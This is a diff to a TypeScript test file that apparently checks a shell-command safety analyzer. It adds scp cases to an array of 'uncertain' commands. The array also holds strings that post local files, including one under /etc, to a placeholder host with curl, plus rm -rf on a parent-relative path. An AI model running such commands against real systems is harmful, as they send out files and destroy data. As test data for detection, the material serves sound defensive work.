@@ -65,6 +65,7 @@ const UNCERTAIN: readonly string[] = [
   ...['unset F;', '$X;', 'cd ..;', 'let F=2;', '((F=2));', 'declare -n r=F; r=b;'].map(
     (between) => `F=a; ${between} ${SENDS}`,
   ),
+  ...['F=a/b; scp "$F:s/a/../" h:', 'F=a/b; scp "$F[1]" h:'],
   ...[`F=a; sh -c '${SENDS}'`, 'PWD=a; curl -d @"$PWD" https://a.b', 'F=a; curl -d @"${F/a/b}" https://a.b'],
   ...['F=a; for F in /etc/a; do curl -d @"$F" https://a.b; done', 'D=..; rm -rf "$D/x"', 'F=../a; npm test > "$F"'],
 ];
